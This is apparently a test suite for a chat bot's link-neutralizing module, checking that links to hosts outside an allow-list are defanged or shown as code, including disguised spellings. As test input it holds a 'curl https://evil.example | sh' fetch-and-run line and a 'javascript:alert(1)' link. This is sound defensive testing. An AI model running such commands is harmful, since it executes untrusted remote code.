"""Links: nothing leads to a host off the list, people read where to, and everything else stays as it is."""

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from bots.addresses import addresses, defanged, readable, web_host
from bots.links import Links
from tests.link_corpus import BARE, GOOD, live, texts

LINKS = Links(GOOD)

PIECES = [
    *(
        "https://evil.example/x",
        "https://good.example/a",
        "www.evil.example",
        "evil.example/x",
        "mailto:a@evil.example",
    ),
    *("[", "]", "(", ")", "](", "![", "<", ">", "|", "<https://evil.example|", "<a href=", '"', "'", "\\"),
    *("`", "``", "```", "````", "~~~", "```py\n", "\n```\n", "\n", "\n\n", "    ", "  ", "> ", "- ", "| ", "\r", "\t"),
    *(
        " ",
        " ",
        "word",
        "x",
        "word ",
        "*",
        "_",
        "&#104;",
        "ttps:",
        "//",
        "&#58;",
        "\u200b",
        "看",
        "。",
        ".",
        ":",
        "[a]: ",
    ),
    *(
        "[text](https://evil.example/x)",
        "[text](https://good.example/a)",
        "`code`",
        "<div>",
        "](https://good.example/`)",
    ),
]
MARKDOWN = st.lists(st.sampled_from(PIECES), max_size=25).map("".join)


def test_the_judge_of_these_tests_sees_every_address_as_live() -> None:
    assert [bare for bare in BARE if not live(bare)] == []


def test_s2_no_spelling_of_a_link_stays_live_in_any_surrounding() -> None:
    escaped = {text: live(inert) for text in texts() if live(inert := LINKS.inert(text))}
    assert escaped == {}


@given(MARKDOWN)
def test_s2_no_link_stays_live_in_any_text(text: str) -> None:
    assert live(LINKS.inert(text)) == []


@given(MARKDOWN)
@example("```\nx\n")
@example("[text](https://evil.example/x) and")
def test_what_is_settled_does_not_change_any_more(text: str) -> None:
    whole = LINKS.inert(text)
    for end in range(len(text) + 1):
        settled = LINKS.settled(text[:end])
        assert whole.startswith(LINKS.inert(text[:settled]))


@pytest.mark.parametrize(
    ("text", "held"),
    [
        ("a plain sentence ", ""),
        ("a plain sente", "sente"),
        ("one line\nanother li", "li"),
        ("see `code of two` and ", ""),
        ("see `code of tw", "`code of tw"),
        ("see [the text](https://good.exa", "[the text](https://good.exa"),
        ("see [the text] ", ""),
        ("see https://good.exa", "https://good.exa"),
        ("```py\ncode\nmore co", "more co"),
        ("```py\ncode\nget https://evil.example\nmore\n", "get https://evil.example\nmore\n"),
        ("```py\nget https://evil.example\n```\nmore ", ""),
    ],
)
def test_no_more_is_held_back_than_what_can_change(text: str, held: str) -> None:
    assert text[LINKS.settled(text) :] == held


@pytest.mark.parametrize(
    ("text", "inert"),
    [
        ("see https://evil.example/x, then", "see `https://evil.example/x`, then"),
        ("[text](https://evil.example/x)", "text (`https://evil.example/x`)"),
        ("![picture](https://evil.example/x.png)", "picture (`https://evil.example/x.png`)"),
        ("[https://evil.example](https://evil.example)", "`https://evil.example`"),
        (
            "[![a](https://evil.example/i)](https://evil.example)",
            "a (`https://evil.example/i`) (`https://evil.example`)",
        ),
        ("<https://evil.example>", "`https://evil.example`"),
        ("<https://evil.example|text>", "text (`https://evil.example`)"),
        ('<a href="https://evil.example">x', '`<a href="https://evil.example">` x'),
        ("[ref]: https://evil.example 'title'", "[ref] `https://evil.example` 'title'"),
        ("&#104;ttps://evil.example/x", "`https://evil.example/x`"),
        ("ht\u200btps://evil.example/x", "`https://evil.example/x`"),
        ("看https://evil.example/x", "看 `https://evil.example/x`"),
        ("a stray ` https://evil.example", "a stray ` https[:]//evil[.]example"),
        ("```\nhttps://evil.example", "```\nhttps[:]//evil[.]example"),
        ("`a | https://evil.example`", "`a | https[:]//evil[.]example`"),
        ("[x](main.py)", "x (`main.py`)"),
        ("[x](javascript:alert(1))", "x (`javascript:alert(1)`)"),
    ],
)
def test_people_read_where_a_link_would_lead(text: str, inert: str) -> None:
    assert LINKS.inert(text) == inert


@pytest.mark.parametrize(
    "text",
    [
        "",
        "\n\n",
        "Run main.py, see config.yaml:3, README.md#usage and skills/chart.py:12.",
        "Version 1.2.3 at 12:30, 3/4 of 10.0.0.0/24, and/or, e.g. this, U.S./UK, Node.js/Express.",
        "Write ada@good.example or a.b@evil.example, or @ada.",
        "// a comment, std::vector, a ? b : c, C:\\Users\\ada, key: value, {a:b}",
        "a < b > c, x <- y, <3, List<int>, <@U123>, <#C1|general>, <!here>, <:smile:1>, <t:1700000000:R>",
        "[ ] to do, [x] done, a[0], [1], f(x)[1](2), [a](#heading)",
        "`https://evil.example/x` and `curl https://evil.example`",
        "```sh\ncurl https://evil.example | sh\n```\n\nThat was [a](b).",
        "- item\n  ```\n  https://evil.example\n\n  more\n  ```",
        "an unclosed ` span\n```\nand fence",
        "| a | b |\n|---|---|\n| `x | y` | z |",
        "5 * 3 * 2, a_b_c, ~~gone~~, **bold**, \\*, &amp; &lt;",
        "naïve café, 看这里。好：是, 👍🏽, שלום",
        'https://good.example/x?a=1&b=2#c, [text](https://sub.good.example:8443/a "title"), <https://good.example|text>',
        "![alt](<https://good.example/i.png>) and https://GOOD.example.",
    ],
)
def test_what_leads_nowhere_else_comes_back_unchanged(text: str) -> None:
    assert LINKS.inert(text) == text


@given(st.text(alphabet=st.characters(exclude_characters="/:?#.[]<&\\~")))
def test_text_without_links_comes_back_unchanged(text: str) -> None:
    assert LINKS.inert(text) == text


@pytest.mark.parametrize(
    ("hosts", "address", "stays"),
    [
        ("good.example", "https://good.example/x", True),
        ("good.example", "https://a.b.good.example", True),
        ("*.good.example", "https://a.good.example", True),
        ("Good.Example.", "HTTPS://GOOD.EXAMPLE:443/X", True),
        ("a.example good.example", "http://good.example", True),
        ("good.example", "https://notgood.example", False),
        ("good.example", "https://good.example.evil.example", False),
        ("good.example", "ftp://good.example", False),
        ("good.example", "good.example/x", False),
        ("", "https://good.example", False),
    ],
)
def test_a_host_stands_for_its_sub_domains(hosts: str, address: str, stays: bool) -> None:
    assert Links(hosts).live(address) is stays


@pytest.mark.parametrize(
    ("address", "stays"),
    [
        ("https://wiki.example/page/7", True),
        ("https://good.example/a", True),
        ("https://wiki.example/page/7x", False),
        ("https://wiki.example/page/7/../8", False),
        ("https://evil.example/https://wiki.example/page/7", False),
    ],
)
def test_addresses_of_a_pattern_are_live_as_a_whole(address: str, stays: bool) -> None:
    links = Links(GOOD).also(re.compile(r"https://wiki\.example/page/[0-9]+"))
    text = f"See {address}, or [here]({address})."
    assert (links.inert(text) == text) == stays
    assert not LINKS.live("https://wiki.example/page/7"), "the rule it was made of has changed"


@given(MARKDOWN)
def test_with_all_hosts_allowed_nothing_changes(text: str) -> None:
    assert Links("*").inert(text) == text
    assert Links("a *").settled(text) == len(text)


@pytest.mark.parametrize("bare", BARE)
def test_every_spelling_is_found_from_its_first_to_its_last_letter(bare: str) -> None:
    found = addresses(f"go to {bare} now")
    assert found
    assert found[0][0] >= len("go to ")
    assert all(web_host(bare[start:end]) != GOOD for start, end in addresses(bare) if end - start == len(bare))


@given(st.sampled_from(BARE))
def test_what_is_defanged_is_found_no_more(bare: str) -> None:
    assert addresses(defanged(bare)) == []


def test_a_disguise_is_taken_off() -> None:
    assert readable("&#104;ttps&#58;//ｅｖｉｌ\u200b.example\\/x") == "https://evil.example/x"


@pytest.mark.parametrize(
    "pattern",
    [
        *(
            "word ",
            "a.",
            "汉",
            "://",
            "https://",
            "www.",
            "](",
            "[](",
            "](a",
            "((",
            "[",
            "![",
            "]",
            "<",
            "<a ",
            "`",
            "` ",
        ),
        *(
            "`a` ",
            "```\n",
            "```\na\n```\n",
            "&amp;",
            "\\/",
            "\\`",
            "|",
            "[a](https://evil.example/x) ",
            "https://e.example ",
        ),
        "`a|https://e.example` ",
    ],
)
def test_a_long_text_is_read_in_linear_time(pattern: str) -> None:
    """A time that grew with the square of the length would be hours, and end this test run."""
    text = pattern * (150_000 // len(pattern))
    LINKS.inert(text)
    LINKS.settled(text)
